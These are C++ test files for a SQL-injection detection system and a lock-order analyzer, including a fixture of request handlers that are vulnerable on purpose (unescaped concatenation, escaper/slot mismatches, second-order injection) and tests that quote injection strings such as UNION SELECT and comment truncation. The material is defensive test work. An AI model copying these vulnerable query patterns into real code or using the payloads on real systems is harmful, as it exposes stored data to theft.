// ---- checking ------------------------------------------------------------

TEST(LockCheck, DirectInversionIsFlagged) {
  LockReport r = check(R"(
    #include <mutex>
    class X {
     public:
      void bad() {
        std::lock_guard a(inner_mu_);
        std::lock_guard b(outer_mu_);
      }
     private:
      std::mutex inner_mu_;
      std::mutex outer_mu_;
    };
  )");
  // Class must be named to match the spec: rename via a focused source.
  // X::inner_mu_ is unknown to the spec -> warnings, no inversion.
  EXPECT_EQ(r.errors(), 0u);
  EXPECT_EQ(r.warnings(), 2u);
}

TEST(LockCheck, InterproceduralInversionThroughCallChain) {
  LockReport r = check(R"(
    #include <mutex>
    class A {
     public:
      void entry() {
        std::lock_guard lock(outer_mu_);
        helper();
      }
      void helper() { deeper(); }
      void deeper() { std::lock_guard lock(outer2_); }
     private:
      std::mutex outer_mu_;
      std::mutex outer2_;
    };
  )");
  (void)r;  // two unknown locks; no ordering facts
  LockReport real = check(R"(
    #include <mutex>
    class C {
     public:
      void leaf_fn() { std::lock_guard lock(inner_mu_); }
      std::mutex inner_mu_;
    };
    class A {
     public:
      void entry() {
        std::lock_guard lock(outer_mu_);
        c_.leaf_fn();
      }
      std::mutex outer_mu_;
      C c_;
    };
  )");
  EXPECT_EQ(real.errors(), 0u) << "outer -> inner follows the chain";
  LockReport inverted = check(R"(
    #include <mutex>
    class A {
     public:
      void grab() { std::lock_guard lock(outer_mu_); }
      std::mutex outer_mu_;
    };
    class C {
     public:
      void entry(A& a) {
        std::lock_guard lock(inner_mu_);
        a.grab();
      }
      std::mutex inner_mu_;
    };
  )");
  ASSERT_EQ(inverted.errors(), 1u);
  EXPECT_EQ(inverted.findings[0].klass, "lock-order-inversion");
  EXPECT_NE(inverted.findings[0].message.find("A::grab"), std::string::npos);
}

TEST(LockCheck, TryLockNeverInverts) {
  LockReport r = check(R"(
    #include <mutex>
    class C { public: std::mutex inner_mu_; };
    class A {
     public:
      void f(C& c) {
        std::lock_guard lock(c.inner_mu_);
        std::unique_lock up(outer_mu_, std::try_to_lock);
      }
      std::mutex outer_mu_;
    };
  )");
  EXPECT_EQ(r.errors(), 0u);
}

TEST(LockCheck, NoblockRuleFiresThroughTheCallGraph) {
  LockReport r = check(R"(
    #include <mutex>
    class C {
     public:
      void barrier() {}
      void wrapper() { barrier(); }
    };
    class A {
     public:
      void f() {
        std::lock_guard lock(outer_mu_);
        c_.wrapper();
      }
      std::mutex outer_mu_;
      C c_;
    };
  )");
  ASSERT_EQ(r.errors(), 1u);
  EXPECT_EQ(r.findings[0].klass, "blocking-call-under-lock");
  EXPECT_NE(r.findings[0].message.find("C::barrier"), std::string::npos);
}

TEST(LockCheck, AtomicRmwBothForms) {
  LockReport r = check(R"(
    #include <atomic>
    class A {
     public:
      void storeload() { n_.store(n_.load() + 1); }
      void plain() { n_ = n_ + 1; }
      void clean_store() { n_ = 7; }
      void clean_rmw() { n_.fetch_add(1); }
     private:
      std::atomic<int> n_{0};
    };
  )");
  std::vector<std::string> classes = classes_of(r);
  EXPECT_EQ(std::count(classes.begin(), classes.end(), "atomic-plain-rmw"),
            2);
}

TEST(LockCheck, CrashcoverOnlyJudgesPresentFunctions) {
  LockReport with = check(R"(
    class C { public: void persist() { int x = 0; (void)x; } };
  )");
  ASSERT_EQ(with.warnings(), 1u);
  EXPECT_EQ(with.findings[0].klass, "missing-failpoint-guard");
  LockReport guarded = check(R"(
    void crashpoint(const char* name);
    class C { public: void persist() { crashpoint("c.persist"); } };
  )");
  EXPECT_EQ(guarded.warnings(), 0u);
  LockReport absent = check("class Unrelated {};");
  EXPECT_EQ(absent.warnings(), 0u) << "absent functions are not judged";
}

TEST(LockCheck, JsonIsDeterministicAndEscaped) {
  LockReport r = check(R"(
    #include <mutex>
    class C { public: void persist() {} };
  )");
  std::string a = render_lock_json(r);
  std::string b = render_lock_json(r);
  EXPECT_EQ(a, b);
  EXPECT_EQ(a.back(), '\n');
  EXPECT_NE(a.find("\"tool\": \"lockcheck\""), std::string::npos);
  EXPECT_NE(a.find("\"summary\""), std::string::npos);
}

}  // namespace
}  // namespace septic::analysis::lockcheck

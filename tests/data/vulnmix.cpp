// septic-scan test fixture: one deliberately vulnerable handler route per
// semantic-mismatch class, plus a safe route that must stay finding-free.
//
// This file is NOT compiled into any target — the scanner reads it as data
// (tests/test_scan_golden.cpp and tests/test_septic_scan.cpp). It mirrors
// the sample-app handler idiom exactly so the scanner exercises the same
// paths it takes over src/web/apps.
#include "web/framework.h"
#include "web/sanitize.h"

namespace septic::web::apps {

Response VulnMix::handle(const Request& request, AppContext& ctx) {
  using php::htmlentities;
  using php::intval;
  using php::mysql_real_escape_string;

  // tainted-unsanitized: the raw parameter goes straight into a quoted
  // context with nothing applied at all.
  if (request.path == "/t1") {
    auto rs = ctx.sql("SELECT id FROM users WHERE name = '" +
                          param(request, "name") + "'",
                      "t1-raw");
    return Response::make_ok(render_rows(rs));
  }

  // escape-numeric-mismatch: a string escaper feeding an unquoted numeric
  // slot — quotes are escaped but `0 OR 1=1` needs none.
  if (request.path == "/t2") {
    std::string id = mysql_real_escape_string(param(request, "id"));
    auto rs = ctx.sql("SELECT id FROM users WHERE id = " + id, "t2-escnum");
    return Response::make_ok(render_rows(rs));
  }

  // html-sql-mismatch: HTML entity encoding is the only "protection";
  // it neutralizes <>& for the browser, not quotes for the parser.
  if (request.path == "/t3") {
    std::string who = htmlentities(param(request, "who"));
    auto rs = ctx.sql("SELECT id FROM users WHERE name = '" + who + "'",
                      "t3-html");
    return Response::make_ok(render_rows(rs));
  }

  // stored-unsanitized: a value read back from the database re-enters a
  // later query verbatim (second-order injection hop).
  if (request.path == "/t4") {
    auto rs = ctx.sql("SELECT note FROM users WHERE id = 1", "t4-read");
    std::string note = rs.rows[0][0].coerce_string();
    auto hop = ctx.sql("SELECT id FROM devices WHERE name = '" + note + "'",
                       "t4-hop");
    return Response::make_ok(render_rows(hop));
  }

  // template-parse-error: the derived benign statement is not SQL at all,
  // so no query model can be pre-trained for this sink.
  if (request.path == "/t5") {
    auto rs = ctx.sql("FROBNICATE " + param(request, "x"), "t5-bad");
    return Response::make_ok(render_rows(rs));
  }

  // Safe route: escaper into a quoted slot, intval into a numeric slot —
  // the intended pairings. Must produce zero findings.
  if (request.path == "/ok") {
    std::string name = mysql_real_escape_string(param(request, "name"));
    int64_t gid = intval(param(request, "gid"));
    auto rs = ctx.sql("SELECT id FROM users WHERE name = '" + name +
                          "' AND gid = " + std::to_string(gid),
                      "ok-safe");
    return Response::make_ok(render_rows(rs));
  }

  return Response::make_not_found();
}

}  // namespace septic::web::apps

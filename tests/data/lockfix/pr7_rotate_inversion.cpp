// Distilled from the PR 7 WAL as first committed: rotate() grabbed the
// sync leader lock before the append lock, while every appender holds
// append_mu_ and then queues on sync_mu_ for group commit — a textbook
// ABBA pair that TSan caught in the crash-recovery matrix. The fix
// (fc41276) releases sync_mu_ before touching the append plane; this
// fixture preserves the pre-fix shape so lockcheck's golden test proves
// the analyzer would have flagged it.
//
// NOT compiled into the build — input data for lockcheck only.
#include <cstdint>
#include <mutex>
#include <string>

namespace septic::storage::wal {

void crashpoint(const char* site);

class WalWriter {
 public:
  void append(const std::string& rec) {
    std::lock_guard lock(append_mu_);
    bytes_ += rec.size();
  }

  void sync_to(uint64_t target) {
    std::unique_lock lead(sync_mu_);
    if (durable_lsn_ >= target) return;
    lead.unlock();  // leader hands the barrier back before appending
    std::lock_guard lock(append_mu_);
    crashpoint("wal.sync.before_fsync");
    durable_lsn_ = target;
  }

  void rotate() {
    // BUG (pre-fix PR 7): leader lock first, append lock second.
    std::lock_guard lead(sync_mu_);
    std::lock_guard lock(append_mu_);
    bytes_ = 0;
  }

 private:
  std::mutex append_mu_;
  std::mutex sync_mu_;
  uint64_t bytes_ = 0;
  uint64_t durable_lsn_ = 0;
};

}  // namespace septic::storage::wal

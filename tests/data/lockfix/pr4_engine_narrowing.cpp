// Distilled from the pre-PR 4 autocommit path: the executor still held a
// table's row lock when it entered the commit critical section, while
// TxnManager::commit takes table locks UNDER commit_mu_ when applying a
// write set. The engine-lock narrowing in PR 4 made the executor drop the
// row lock first; this fixture preserves the inverted shape for the
// golden test.
//
// NOT compiled into the build — input data for lockcheck only.
#include <mutex>
#include <shared_mutex>

namespace septic::engine {

struct Table {
  mutable std::shared_mutex mu_;
  int rows = 0;
};

class TxnManager {
 public:
  std::mutex& commit_mu() { return commit_mu_; }

 private:
  std::mutex commit_mu_;
};

class Database {
 public:
  // BUG (pre-fix PR 4): the row lock is still held when the commit lock
  // is taken — ABBA against commit applying a write set.
  void apply_autocommit(Table& t) {
    std::unique_lock row(t.mu_);
    t.rows += 1;
    std::lock_guard commit(txn_mgr_.commit_mu());
    publish_locked(t);
  }

  // Fixed shape for contrast: row lock released before the commit lock.
  void apply_autocommit_narrowed(Table& t) {
    {
      std::unique_lock row(t.mu_);
      t.rows += 1;
    }
    std::lock_guard commit(txn_mgr_.commit_mu());
    publish_locked(t);
  }

 private:
  void publish_locked(Table& t) { t.rows += 1; }

  TxnManager txn_mgr_;
};

}  // namespace septic::engine

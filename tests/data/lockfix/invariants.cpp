// One seeded violation per invariant class beyond lock ordering, plus the
// clean idioms (try-lock, scoped unlock) the analyzer must NOT flag.
//
// NOT compiled into the build — input data for lockcheck only.
#include <atomic>
#include <cstdint>
#include <mutex>
#include <shared_mutex>

namespace septic::engine {

struct Table {
  mutable std::shared_mutex mu_;
  int rows = 0;
};

class DurableStorage {
 public:
  // Stand-in for the group-commit wait (locks.spec: blocking).
  void ack_sync(uint64_t lsn) { last_acked_ = lsn; }

 private:
  uint64_t last_acked_ = 0;
};

class Database {
 public:
  // BUG: an fsync barrier reached while the engine lock is held turns a
  // disk stall into a global stall (noblock rule).
  void flush_all() {
    std::shared_lock ddl(ddl_mu_);
    storage_.ack_sync(1);
  }

  // BUG: scratch_mu_ is not declared in locks.spec (unknown-lock).
  void stats() {
    std::lock_guard lock(scratch_mu_);
    ++stat_reads_;
  }

  // BUG: load-modify-store on an atomic loses updates under contention.
  void bump() { hits_.store(hits_.load() + 1); }

  // Clean: the engine lock is only tried, and the row lock follows the
  // declared ddl -> table order.
  void vacuum(Table& t) {
    std::unique_lock ddl(ddl_mu_, std::try_to_lock);
    if (!ddl.owns_lock()) return;
    std::unique_lock rows(t.mu_);
    t.rows = 0;
  }

  // Clean: the row lock is released before the engine lock is taken.
  void reload(Table& t) {
    std::unique_lock rows(t.mu_);
    int snapshot = t.rows;
    rows.unlock();
    std::shared_lock ddl(ddl_mu_);
    stat_reads_ = snapshot;
  }

 private:
  mutable std::shared_mutex ddl_mu_;
  std::mutex scratch_mu_;
  std::atomic<uint64_t> hits_{0};
  int stat_reads_ = 0;
  DurableStorage storage_;
};

}  // namespace septic::engine

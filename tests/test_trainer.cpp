// The training crawler (paper §II-E "septic training module") and the
// UPDATE/DELETE LIMIT feature, plus net-layer robustness against garbage.
#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <memory>

#include "engine/database.h"
#include "net/client.h"
#include "net/server.h"
#include "septic/septic.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic::web {
namespace {

struct TrainRig {
  engine::Database db;
  apps::WaspMonApp app;
  std::unique_ptr<WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  TrainRig() {
    app.install(db);
    septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);
    stack = std::make_unique<WebStack>(app, db);
    septic->set_mode(core::Mode::kTraining);
  }
};

TEST(Trainer, VisitsEveryFormAndWorkloadRequest) {
  TrainRig rig;
  TrainingReport report = train_on_application(*rig.stack);
  EXPECT_EQ(report.forms_visited, rig.app.forms().size());
  EXPECT_EQ(report.requests_sent,
            rig.app.forms().size() + rig.app.workload().size());
  EXPECT_EQ(report.requests_failed, 0u);
  EXPECT_GT(rig.septic->store().model_count(), 0u);
}

TEST(Trainer, MultipleRoundsMultiplyRequestsNotModels) {
  TrainRig rig;
  TrainingReport r1 = train_on_application(*rig.stack, /*rounds=*/1);
  size_t models = rig.septic->store().model_count();
  TrainingReport r3 = train_on_application(*rig.stack, /*rounds=*/3);
  EXPECT_EQ(r3.requests_sent, 3 * r1.requests_sent);
  EXPECT_EQ(rig.septic->store().model_count(), models);
}

TEST(Trainer, TeachesTheProxyWhenInterposed) {
  TrainRig rig;
  rig.stack->config().proxy_enabled = true;
  train_on_application(*rig.stack);
  EXPECT_GT(rig.stack->proxy().fingerprint_count(), 0u);
  rig.stack->proxy().set_mode(QueryFirewall::Mode::kProtect);
  // The whole workload still passes under proxy protection.
  rig.septic->set_mode(core::Mode::kPrevention);
  for (const auto& r : rig.app.workload()) {
    EXPECT_TRUE(rig.stack->handle(r).ok()) << r.to_string();
  }
}

TEST(Trainer, FailedRequestsAreCounted) {
  // An app-less stack: every request 404s, which the report must surface.
  engine::Database db;
  apps::WaspMonApp app;  // NOT installed: all queries fail -> 500s
  WebStack stack(app, db);
  TrainingReport report = train_on_application(stack);
  EXPECT_GT(report.requests_failed, 0u);
}

}  // namespace
}  // namespace septic::web

namespace septic::engine {
namespace {

TEST(DmlLimit, UpdateLimitCapsAffectedRows) {
  Database db;
  Session s;
  db.execute_admin("CREATE TABLE dl (id INT PRIMARY KEY AUTO_INCREMENT, "
                   "v INT)");
  db.execute_admin("INSERT INTO dl (v) VALUES (0), (0), (0), (0), (0)");
  auto rs = db.execute(s, "UPDATE dl SET v = 1 WHERE v = 0 LIMIT 2");
  EXPECT_EQ(rs.affected_rows, 2);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM dl WHERE v = 1")
                .rows[0][0]
                .as_int(),
            2);
}

TEST(DmlLimit, DeleteLimitCapsDeletions) {
  Database db;
  Session s;
  db.execute_admin("CREATE TABLE dl (id INT PRIMARY KEY AUTO_INCREMENT, "
                   "v INT)");
  db.execute_admin("INSERT INTO dl (v) VALUES (0), (0), (0)");
  auto rs = db.execute(s, "DELETE FROM dl LIMIT 2");
  EXPECT_EQ(rs.affected_rows, 2);
  EXPECT_EQ(db.execute_admin("SELECT COUNT(*) FROM dl").rows[0][0].as_int(),
            1);
}

TEST(DmlLimit, RoundTripsAndStacksDiffer) {
  auto q = sql::parse("DELETE FROM t WHERE v = 1 LIMIT 3");
  EXPECT_EQ(sql::statement_to_sql(q.statement),
            "DELETE FROM t WHERE (v = 1) LIMIT 3");
  auto with_limit = sql::build_item_stack(q.statement);
  auto without =
      sql::build_item_stack(sql::parse("DELETE FROM t WHERE v = 1").statement);
  EXPECT_NE(with_limit.nodes.size(), without.nodes.size());
}

}  // namespace
}  // namespace septic::engine

namespace septic::net {
namespace {

TEST(NetRobustness, GarbageBytesDropConnectionNotServer) {
  engine::Database db;
  db.execute_admin("CREATE TABLE nr (x INT)");
  Server server(db, 0);
  server.start();

  // Raw socket spewing garbage (bad length, bad opcodes).
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(server.port());
  ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)),
            0);
  const char garbage[] = "\xff\xff\xff\xff garbage not a frame";
  (void)::send(fd, garbage, sizeof(garbage), MSG_NOSIGNAL);
  char buf[64];
  (void)::recv(fd, buf, sizeof(buf), 0);  // server closes on us
  ::close(fd);

  // The server survives and serves the next well-behaved client.
  Client c(server.port());
  EXPECT_NO_THROW(c.query("INSERT INTO nr VALUES (1)"));
  server.stop();
}

TEST(NetRobustness, OversizedFrameRejected) {
  engine::Database db;
  Server server(db, 0);
  server.start();
  int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(server.port());
  ASSERT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)),
            0);
  // Length = 0x7fffffff: decoder must reject, server must not allocate it.
  const unsigned char evil[] = {0xff, 0xff, 0xff, 0x7f, 0x01};
  (void)::send(fd, evil, sizeof(evil), MSG_NOSIGNAL);
  // The server answers with a graceful ERROR frame, then closes.
  FrameDecoder dec;
  char buf[256];
  std::optional<Frame> reply;
  for (;;) {
    ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) break;
    dec.feed(std::string_view(buf, static_cast<size_t>(n)));
    if ((reply = dec.next())) break;
  }
  ASSERT_TRUE(reply.has_value());
  EXPECT_EQ(reply->op, Opcode::kError);
  EXPECT_NE(reply->payload.find("FRAME_TOO_LARGE"), std::string::npos);
  EXPECT_LE(::recv(fd, buf, sizeof(buf), 0), 0);  // then the close
  ::close(fd);
  server.stop();
}

}  // namespace
}  // namespace septic::net

#include "septic/id_generator.h"

#include <gtest/gtest.h>

#include "common/unicode.h"
#include "sqlcore/parser.h"

namespace septic::core {
namespace {

sql::ParsedQuery parse_conv(std::string_view q) {
  return sql::parse(common::server_charset_convert(q));
}

TEST(ExternalId, ExtractedFromLeadingBlockComment) {
  auto q = parse_conv("/* ID:tickets:lookup */ SELECT 1");
  auto ext = IdGenerator::external_id(q);
  ASSERT_TRUE(ext.has_value());
  EXPECT_EQ(*ext, "tickets:lookup");
}

TEST(ExternalId, AbsentWhenNoComment) {
  auto q = parse_conv("SELECT 1");
  EXPECT_FALSE(IdGenerator::external_id(q).has_value());
}

TEST(ExternalId, NonIdCommentIgnored) {
  auto q = parse_conv("/* just a note */ SELECT 1");
  EXPECT_FALSE(IdGenerator::external_id(q).has_value());
}

TEST(ExternalId, FirstCommentWinsAgainstInjectedOnes) {
  // An attacker appends their own /* ID:... */ through user input; the
  // SSLE's prepended identifier must win.
  auto q = parse_conv(
      "/* ID:legit:site */ SELECT * FROM t WHERE a = 1 /* ID:spoofed */");
  auto ext = IdGenerator::external_id(q);
  ASSERT_TRUE(ext.has_value());
  EXPECT_EQ(*ext, "legit:site");
}

TEST(ExternalId, DashDashAndHashCommentsNeverCarryIds) {
  auto q = parse_conv("SELECT 1 -- ID:nope");
  EXPECT_FALSE(IdGenerator::external_id(q).has_value());
}

TEST(InternalId, StableAcrossDataChanges) {
  auto a = IdGenerator::internal_id(
      parse_conv("SELECT * FROM t WHERE x = 'aaa'").statement);
  auto b = IdGenerator::internal_id(
      parse_conv("SELECT * FROM t WHERE x = 'zzz' AND 1 = 1").statement);
  // WHERE contents excluded: same kind/table/fields -> same internal id,
  // so the attacked query still finds its learned model.
  EXPECT_EQ(a, b);
}

TEST(InternalId, AttackInvariantUnderCommentTruncation) {
  auto benign = IdGenerator::internal_id(
      parse_conv("SELECT * FROM tickets WHERE reservID = 'X' AND "
                 "creditCard = 1")
          .statement);
  auto attacked = IdGenerator::internal_id(
      parse_conv("SELECT * FROM tickets WHERE reservID = 'X\xca\xbc-- ' AND "
                 "creditCard = 1")
          .statement);
  EXPECT_EQ(benign, attacked);
}

TEST(InternalId, AttackInvariantUnderUnionInjection) {
  auto benign = IdGenerator::internal_id(
      parse_conv("SELECT * FROM tickets WHERE creditCard = 1").statement);
  auto attacked = IdGenerator::internal_id(
      parse_conv("SELECT * FROM tickets WHERE creditCard = 1 UNION SELECT "
                 "a, b, c, d, e, f FROM profiles")
          .statement);
  EXPECT_EQ(benign, attacked);
}

TEST(InternalId, DifferentTablesDiffer) {
  auto a =
      IdGenerator::internal_id(parse_conv("SELECT * FROM t1").statement);
  auto b =
      IdGenerator::internal_id(parse_conv("SELECT * FROM t2").statement);
  EXPECT_NE(a, b);
}

TEST(InternalId, DifferentKindsDiffer) {
  auto a = IdGenerator::internal_id(
      parse_conv("DELETE FROM t WHERE id = 1").statement);
  auto b = IdGenerator::internal_id(
      parse_conv("SELECT * FROM t WHERE id = 1").statement);
  EXPECT_NE(a, b);
}

TEST(InternalId, SelectFieldsMatter) {
  auto a = IdGenerator::internal_id(parse_conv("SELECT a FROM t").statement);
  auto b = IdGenerator::internal_id(parse_conv("SELECT b FROM t").statement);
  EXPECT_NE(a, b);
}

TEST(InternalId, CaseInsensitiveNames) {
  auto a = IdGenerator::internal_id(parse_conv("SELECT a FROM T").statement);
  auto b = IdGenerator::internal_id(parse_conv("select A from t").statement);
  EXPECT_EQ(a, b);
}

TEST(ComposedId, ConcatenatesExternalAndInternal) {
  auto q = parse_conv("/* ID:app:site */ SELECT 1");
  QueryId id = IdGenerator::generate(q);
  EXPECT_EQ(id.external, "app:site");
  EXPECT_FALSE(id.internal.empty());
  EXPECT_EQ(id.composed(), "app:site#" + id.internal);
}

TEST(ComposedId, InternalOnlyWithoutExternal) {
  auto q = parse_conv("SELECT 1");
  QueryId id = IdGenerator::generate(q);
  EXPECT_TRUE(id.external.empty());
  EXPECT_EQ(id.composed(), id.internal);
}

TEST(InternalId, UpdateUsesTableAndSetColumns) {
  auto a = IdGenerator::internal_id(
      parse_conv("UPDATE t SET a = 1 WHERE id = 2").statement);
  auto b = IdGenerator::internal_id(
      parse_conv("UPDATE t SET a = 99 WHERE id = 5 AND 1 = 1").statement);
  auto c = IdGenerator::internal_id(
      parse_conv("UPDATE t SET b = 1 WHERE id = 2").statement);
  EXPECT_EQ(a, b);
  EXPECT_NE(a, c);
}

}  // namespace
}  // namespace septic::core

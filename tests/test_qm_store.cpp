#include "septic/qm_store.h"

#include <gtest/gtest.h>

#include "sqlcore/parser.h"

namespace septic::core {
namespace {

QueryModel model_of(std::string_view q) {
  return make_query_model(sql::build_item_stack(sql::parse(q).statement));
}

TEST(QmStore, AddAndSnapshot) {
  QmStore store;
  EXPECT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE b = 1")));
  QmStore::ModelSet models = store.snapshot("id1");
  ASSERT_TRUE(models);
  ASSERT_EQ(models->size(), 1u);
  EXPECT_TRUE(store.contains("id1"));
  EXPECT_FALSE(store.contains("id2"));
  EXPECT_EQ(store.snapshot("id2"), nullptr);
}

TEST(QmStore, DeduplicatesIdenticalModels) {
  QmStore store;
  EXPECT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE b = 1")));
  EXPECT_FALSE(store.add("id1", model_of("SELECT a FROM t WHERE b = 999")));
  size_t seen = 0;
  EXPECT_TRUE(store.lookup_apply(
      "id1", [&](const std::vector<QueryModel>& ms) { seen = ms.size(); }));
  EXPECT_EQ(seen, 1u);
}

TEST(QmStore, MultipleModelsPerIdOnCollision) {
  QmStore store;
  EXPECT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE b = 1")));
  EXPECT_TRUE(store.add("id1", model_of("SELECT a FROM t WHERE b = 'str'")));
  size_t seen = 0;
  EXPECT_TRUE(store.lookup_apply(
      "id1", [&](const std::vector<QueryModel>& ms) { seen = ms.size(); }));
  EXPECT_EQ(seen, 2u);
  EXPECT_EQ(store.id_count(), 1u);
  EXPECT_EQ(store.model_count(), 2u);
}

TEST(QmStore, Clear) {
  QmStore store;
  store.add("id1", model_of("SELECT 1"));
  store.clear();
  EXPECT_EQ(store.id_count(), 0u);
}

TEST(QmStore, SerializeRoundTrip) {
  QmStore store;
  store.add("tickets:lookup#abc", model_of("SELECT * FROM t WHERE a = 'x'"));
  store.add("tickets:lookup#abc", model_of("SELECT * FROM t WHERE a = 1"));
  store.add("other", model_of("DELETE FROM t WHERE id = 1"));

  QmStore restored;
  restored.deserialize(store.serialize());
  EXPECT_EQ(restored.id_count(), 2u);
  EXPECT_EQ(restored.model_count(), 3u);
  QmStore::ModelSet roundtripped = restored.snapshot("tickets:lookup#abc");
  ASSERT_TRUE(roundtripped);
  EXPECT_EQ(roundtripped->size(), 2u);
}

TEST(QmStore, FileRoundTrip) {
  QmStore store;
  store.add("a", model_of("SELECT 1"));
  const std::string path = "/tmp/septic_test_store.qm";
  store.save_to_file(path);
  QmStore restored;
  restored.load_from_file(path);
  EXPECT_EQ(restored.model_count(), 1u);
}

TEST(QmStore, LoadRejectsMalformed) {
  QmStore store;
  EXPECT_THROW(store.deserialize("no-tab-here\n"), std::runtime_error);
  EXPECT_THROW(store.deserialize("id\tgarbage-model\n"), std::runtime_error);
  EXPECT_THROW(store.load_from_file("/nonexistent/x.qm"), std::runtime_error);
}

TEST(QmStore, EmptySerializeRoundTrip) {
  QmStore store;
  QmStore restored;
  restored.deserialize(store.serialize());
  EXPECT_EQ(restored.model_count(), 0u);
}

}  // namespace
}  // namespace septic::core

// Analysis-vs-runtime cross-check: SEPTIC booted purely from the
// statically pre-trained QM store (zero runtime training, incremental
// learning OFF) must behave exactly like a dynamically trained deployment —
// blocking the whole attack corpus while accepting every benign probe and
// workload request. Separately, every model the runtime trainer learns must
// already be present in the static store (containment), proving the static
// templates and the live traffic collapse to the same query models.
#include <gtest/gtest.h>
#include <unistd.h>

#include <memory>

#include "analysis/scanner.h"
#include "attacks/corpus.h"
#include "engine/database.h"
#include "septic/septic.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic::analysis {
namespace {

std::string app_source(const std::string& app) {
  return std::string(SEPTIC_SOURCE_DIR) + "/src/web/apps/" + app + ".cpp";
}

std::unique_ptr<web::App> make_app(const std::string& name) {
  if (name == "tickets") return std::make_unique<web::apps::TicketsApp>();
  return std::make_unique<web::apps::WaspMonApp>();
}

/// A deployment whose SEPTIC never trained on live traffic: its models come
/// solely from septic-scan, via the persisted store file (exercising the
/// save -> load path a real restart would take).
struct StaticBoot {
  engine::Database db;
  std::unique_ptr<web::App> app;
  std::unique_ptr<web::WebStack> stack;
  std::shared_ptr<core::Septic> septic;

  explicit StaticBoot(const std::string& app_name) {
    app = make_app(app_name);
    app->install(db);
    stack = std::make_unique<web::WebStack>(*app, db);
    septic = std::make_shared<core::Septic>();
    db.set_interceptor(septic);

    core::QmStore scanned;
    scan_file(app_source(app_name), "", scanned);
    // Per-process path: `ctest -j` runs these fixtures concurrently from a
    // shared CWD, and two processes racing one .tmp file lose the rename.
    path_ = "crosscheck_" + app_name + "." + std::to_string(::getpid()) +
            ".qm";
    scanned.save_to_file(path_);
    core::QmLoadReport lr = septic->load_models(path_);
    EXPECT_TRUE(lr.clean()) << lr.detail;
    EXPECT_EQ(septic->store().model_count(), scanned.model_count());

    // No fallback: an ID the scan failed to model gets DROPPED, so these
    // tests prove static coverage, not incremental learning.
    septic->set_incremental_learning(false);
    septic->set_mode(core::Mode::kPrevention);
  }

  ~StaticBoot() { ::unlink(path_.c_str()); }

  std::string path_;

  std::string run_chain(const attacks::AttackCase& attack) {
    for (const auto& setup : attack.setup) {
      web::Response r = stack->handle(setup);
      if (r.blocked()) return r.blocked_by;
    }
    return stack->handle(attack.attack).blocked_by;
  }
};

class StaticBootVsAttack
    : public ::testing::TestWithParam<attacks::AttackCase> {};

TEST_P(StaticBootVsAttack, BlockedWithoutAnyRuntimeTraining) {
  const attacks::AttackCase& attack = GetParam();
  StaticBoot d(attack.app);
  EXPECT_EQ(d.run_chain(attack), "septic")
      << attack.id << ": " << attack.name;
}

INSTANTIATE_TEST_SUITE_P(Corpus, StaticBootVsAttack,
                         ::testing::ValuesIn(attacks::all_attacks()),
                         [](const auto& info) { return info.param.id; });

class StaticBootBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(StaticBootBenign, ProbesNeverBlocked) {
  const std::string app = GetParam();
  StaticBoot d(app);
  for (const auto& probe : attacks::benign_probes(app)) {
    web::Response r = d.stack->handle(probe);
    EXPECT_FALSE(r.blocked())
        << app << ": " << probe.to_string() << " blocked by " << r.blocked_by;
    EXPECT_TRUE(r.ok()) << probe.to_string() << ": " << r.body;
  }
  EXPECT_EQ(d.septic->stats().sqli_detected, 0u);
}

TEST_P(StaticBootBenign, WorkloadNeverBlocked) {
  const std::string app = GetParam();
  StaticBoot d(app);
  for (int round = 0; round < 2; ++round) {
    for (const auto& r : d.app->workload()) {
      web::Response resp = d.stack->handle(r);
      EXPECT_FALSE(resp.blocked()) << r.to_string();
    }
  }
  EXPECT_EQ(d.septic->stats().sqli_detected, 0u);
  EXPECT_EQ(d.septic->stats().dropped, 0u);
}

INSTANTIATE_TEST_SUITE_P(Apps, StaticBootBenign,
                         ::testing::Values("tickets", "waspmon"));

// --------------------------------------------------------- containment

/// Model equivalence under default detector semantics: blanked INT and
/// DECIMAL data nodes are interchangeable (strict_numeric_types=false) —
/// the trainer sees decimal form values where the scan synthesizes `1`.
bool models_equivalent(const core::QueryModel& a, const core::QueryModel& b) {
  if (a.kind != b.kind || a.nodes.size() != b.nodes.size()) return false;
  auto numeric = [](sql::ItemType t) {
    return t == sql::ItemType::kIntItem || t == sql::ItemType::kDecimalItem;
  };
  for (size_t i = 0; i < a.nodes.size(); ++i) {
    if (a.nodes[i] == b.nodes[i]) continue;
    if (numeric(a.nodes[i].type) && numeric(b.nodes[i].type) &&
        a.nodes[i].data == b.nodes[i].data) {
      continue;
    }
    return false;
  }
  return true;
}

class StaticContainsRuntime : public ::testing::TestWithParam<const char*> {
};

TEST_P(StaticContainsRuntime, EveryRuntimeModelIsPreTrained) {
  const std::string app_name = GetParam();

  core::QmStore static_store;
  scan_file(app_source(app_name), "", static_store);

  // Dynamically train a fresh deployment the way the e2e tests do.
  engine::Database db;
  std::unique_ptr<web::App> app = make_app(app_name);
  app->install(db);
  web::WebStack stack(*app, db);
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  septic->set_mode(core::Mode::kTraining);
  web::train_on_application(stack);

  const core::QmStore& runtime = septic->store();
  EXPECT_GT(runtime.model_count(), 0u);
  for (const std::string& id : runtime.ids()) {
    core::QmStore::ModelSet statics = static_store.snapshot(id);
